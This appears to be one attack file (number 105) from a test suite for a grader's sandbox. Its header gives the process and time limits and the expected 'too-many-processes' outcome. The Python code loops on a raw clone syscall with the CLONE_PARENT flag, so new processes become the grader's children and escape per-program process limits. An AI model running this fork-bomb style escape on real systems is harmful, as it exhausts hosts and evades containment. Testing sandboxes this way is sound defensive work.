# attacks: 105
# what: children that are made the grader's own, beside the program instead of below it
# limits: processes=10 wall_s=20
# ends: too-many-processes
import time

from target import call

CLONE_PARENT = 0x8000
while True:
    try:
        if call(56, 220, CLONE_PARENT | 17, 0, 0, 0, 0) == 0:
            time.sleep(60)
    except OSError:
        time.sleep(60)
